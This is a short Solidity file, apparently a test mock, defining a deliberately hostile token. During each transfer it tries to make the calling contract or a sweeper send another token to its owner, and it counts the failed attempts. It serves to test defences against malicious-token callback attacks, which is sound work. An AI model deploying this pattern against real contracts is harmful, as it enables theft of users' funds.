// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface Delegated {
    struct Item {
        address source;
        address token;
        address to;
        uint256 amount;
    }

    function collect(Item[] calldata items) external;

    function push(address token, address to, uint256 amount) external;
}

/// A token that turned hostile: while it is transferred, it tries to make its victim send everything else to its owner.
contract Grasping {
    address public immutable owner = msg.sender;
    string public constant symbol = "GRASP";
    uint8 public constant decimals = 6;
    address private sweeper;
    address private prey;
    uint256 public tries;
    mapping(address => uint256) public balanceOf;

    function aim(address sweeper_, address prey_) external {
        sweeper = sweeper_;
        prey = prey_;
    }

    function mint(address to, uint256 value) external {
        balanceOf[to] += value;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        Delegated.Item[] memory items = new Delegated.Item[](1);
        items[0] = Delegated.Item(msg.sender, prey, owner, 1);
        try Delegated(sweeper).collect(items) {} catch {
            ++tries;
        }
        try Delegated(msg.sender).push(prey, owner, 1) {} catch {
            ++tries;
        }
        try Delegated(msg.sender).collect(items) {} catch {
            ++tries;
        }
        balanceOf[msg.sender] -= value;
        balanceOf[to] += value;
        return true;
    }
}
